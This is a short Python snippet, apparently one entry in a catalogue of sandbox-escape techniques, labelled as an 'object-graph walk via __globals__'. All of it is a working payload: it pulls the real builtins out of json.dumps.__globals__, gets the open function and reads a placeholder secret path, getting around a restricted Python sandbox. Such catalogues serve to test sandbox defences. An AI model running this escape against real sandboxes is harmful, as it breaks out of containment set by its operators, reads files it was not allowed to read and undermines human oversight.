# family: object-graph walk via __globals__
# goal: get the real builtins from a library function's globals
import json
real_builtins = json.dumps.__globals__["__builtins__"]
opener = real_builtins["open"] if isinstance(real_builtins, dict) else real_builtins.open
print(opener("__SECRET_PATH__").read())
